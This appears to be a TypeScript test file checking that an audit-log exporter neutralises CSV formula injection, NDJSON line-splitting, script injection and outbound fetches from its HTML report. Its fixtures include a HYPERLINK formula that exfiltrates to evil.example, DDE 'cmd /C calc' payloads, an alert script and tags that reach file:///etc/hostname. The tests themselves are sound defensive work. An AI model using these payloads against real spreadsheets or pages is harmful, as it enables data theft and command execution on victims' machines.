/**
 * What a client or an upstream sends lands in the exports: tool names and user agents built to
 * run as spreadsheet formulas (in a comma or a semicolon locale), and to be rendered as a page
 * of the exporter's own origin. Every CSV cell stays text, and every answer tells the browser
 * not to guess its type; the HTML report forbids every request but the document itself.
 */
import { existsSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { removeChdbTestPath } from '@proctor/audit-store/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempDir } from '../../../test/harness';
import { chromiumPath, renderInChromium } from './testing-chromium';
import { endedSession, startTestExporter, type TestExporter } from './testing-exporter';

/** Values a client chooses, each built to start a formula once a spreadsheet reads the cell. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  // Harmless with ',' as the delimiter, a formula cell where ';' is (most of Europe).
  "x;=1+cmd|' /C calc'!A0",
  " =1+cmd|' /C calc'!A0",
  "\u00a0@SUM(1+1)*cmd|' /C calc'!A0",
  '\n=1+1',
  '\uff1d1+1',
  '\t=1+1',
];

let exporter: TestExporter;

beforeAll(async () => {
  exporter = await startTestExporter({ workers: false });
  const session = endedSession('s-inj', 'tenant-a', FORMULAS.length, 0).map((event, i) => ({
    ...event,
    ...(i > 0 && i <= FORMULAS.length && { toolName: FORMULAS[i - 1] as string }),
    userAgent: FORMULAS[i % FORMULAS.length] as string,
  }));
  await exporter.store.insertEvents(session);
});

afterAll(async () => {
  await exporter?.close();
  removeChdbTestPath();
});

/** The cells a spreadsheet reads from a CSV with `delimiter` (RFC 4180 quoting). */
function spreadsheetCells(csv: string, delimiter: ',' | ';'): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i] as string;
    if (quoted) {
      if (c !== '"') cell += c;
      else if (csv[i + 1] === '"') cell += csv[++i];
      else quoted = false;
    } else if (c === '"' && cell === '') {
      quoted = true;
    } else if (c === delimiter || c === '\n') {
      cells.push(cell.replace(/\r$/, ''));
      cell = '';
    } else {
      cell += c;
    }
  }
  if (cell !== '') cells.push(cell);
  return cells;
}

/** Where readers break lines: Python's str.splitlines() also at VT, FF, FS, GS, RS, NEL, U+2028 and U+2029. */
const LINE_BREAKS = new Set([
  '\n',
  '\r',
  '\v',
  '\f',
  '\u001c',
  '\u001d',
  '\u001e',
  '\u0085',
  '\u2028',
  '\u2029',
]);

/** The non-empty lines of a text, as such a reader sees them. */
function readerLines(text: string): string[] {
  const lines = [''];
  for (const c of text) {
    if (LINE_BREAKS.has(c)) lines.push('');
    else lines[lines.length - 1] += c;
  }
  return lines.filter((line) => line !== '');
}

/** A cell a spreadsheet would evaluate: a formula character first, past leading blanks (ASCII or full width). */
const evaluated = (cell: string) => /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell);

describe('attacker-chosen values in the exports', () => {
  it('never start a formula in a CSV cell, read with a comma or a semicolon as the delimiter', async () => {
    for (const url of ['/v1/records/events?session=s-inj&format=csv', '/v1/sessions/s-inj/log?format=csv']) {
      const res = await exporter.get('auditor', url);
      expect(res.statusCode).toBe(200);
      for (const delimiter of [',', ';'] as const) {
        const formulas = spreadsheetCells(res.body, delimiter).filter(evaluated);
        expect({ url, delimiter, formulas }).toEqual({ url, delimiter, formulas: [] });
      }
      // The values are all there, as text: only quote marks were added.
      const cells = spreadsheetCells(res.body, ',').map((cell) => cell.replaceAll("'", ''));
      for (const value of FORMULAS) expect(cells).toContain(value.replaceAll("'", ''));
    }
  });

  it('never split an NDJSON line for a reader that breaks lines at U+2028 or NEL, nor close a script element', async () => {
    const forged =
      '\u2028{"type":"session_ended","forged":true}\u0085{"x":1}\u2029</script><script>alert(1)</script>';
    await exporter.store.insertEvents(
      endedSession('s-lines', 'tenant-a', 1, 100).map((e) =>
        e.type === 'frame' ? { ...e, toolName: forged } : e,
      ),
    );
    for (const url of [
      '/v1/records/events?session=s-lines&format=ndjson',
      '/v1/sessions/s-lines/log?format=ndjson',
      '/v1/sessions/s-lines/log?format=fhir',
      '/v1/records/events?session=s-lines',
      '/v1/sessions/s-lines/log?format=json',
      '/v1/sessions/s-lines/events',
    ]) {
      const body = (await exporter.get('auditor', url)).body;
      const lines = readerLines(body);
      expect({ url, lines: lines.length }).toEqual({
        url,
        lines: url.includes('nd') || url.includes('fhir') ? 3 : 1,
      });
      // Every line is whole JSON, holding the value as it was sent.
      expect(lines.map((line) => JSON.parse(line)).length).toBe(lines.length);
      expect(body).not.toMatch(/<\/script/i);
    }
    const page = (await exporter.get('auditor', '/v1/records/events?session=s-lines')).json();
    expect(page.records.map((r: { toolName: string }) => r.toolName)).toContain(forged);
  });

  it('are never sniffed as a page: every export says its type is final, the HTML report forbids any request', async () => {
    for (const url of [
      '/v1/records/events?session=s-inj&format=ndjson',
      '/v1/records/events?session=s-inj&format=csv',
      '/v1/records/events?session=s-inj',
      '/v1/sessions/s-inj/log?format=fhir',
      '/v1/sessions/s-inj/events',
      '/v1/reports/hipaa?from=2025-01-01&to=2027-01-01&format=csv',
    ]) {
      const res = await exporter.get('auditor', url);
      expect({ url, status: res.statusCode, nosniff: res.headers['x-content-type-options'] }).toEqual({
        url,
        status: 200,
        nosniff: 'nosniff',
      });
    }
    const html = await exporter.get('auditor', '/v1/reports/hipaa?from=2025-01-01&to=2027-01-01&format=html');
    expect(html.statusCode).toBe(200);
    const policy = String(html.headers['content-security-policy']);
    expect(policy).toMatch(/default-src 'none'/);
    expect(policy).not.toMatch(/script-src/);
    // The saved file carries the same policy for whatever opens or prints it.
    expect(html.body).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src 'none';/);
  });

  it('make Chromium printing the saved HTML report to PDF request nothing, even if some escaped their escaping', async () => {
    const chromium = chromiumPath('this test');
    const requests: string[] = [];
    const server = createServer((req, res) => {
      requests.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'text/css' }).end('body{}');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const at = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      const escaped = [
        `<img src="${at}/img">`,
        `<link rel="stylesheet" href="${at}/link">`,
        `<iframe src="${at}/iframe"></iframe>`,
        '<iframe src="file:///etc/hostname"></iframe>',
        `<object data="${at}/object"></object>`,
        `<style>@import url(${at}/import);body{background:url(${at}/background)}</style>`,
        `<svg><image href="${at}/svg-image"/></svg>`,
        `<script>fetch('${at}/script')</script>`,
      ].join('');
      const res = await exporter.get(
        'auditor',
        '/v1/reports/hipaa?from=2025-01-01&to=2027-01-01&format=html',
      );
      const report = res.body.replace('</body>', `${escaped}</body>`);
      const withoutPolicy = report.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
      expect(withoutPolicy).not.toBe(report);
      const dir = await tempDir('report-pdf');
      const print = async (name: string, html: string) => {
        const file = join(dir, `${name}.html`);
        await writeFile(file, html);
        await renderInChromium(chromium, file, [`--print-to-pdf=${join(dir, `${name}.pdf`)}`]);
        return requests.splice(0);
      };
      // The same document without its policy fetches: the listener sees what Chromium asks for.
      expect((await print('unprotected', withoutPolicy)).length).toBeGreaterThan(3);
      expect(await print('report', report)).toEqual([]);
      expect(existsSync(join(dir, 'report.pdf'))).toBe(true);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  }, 200_000);
});
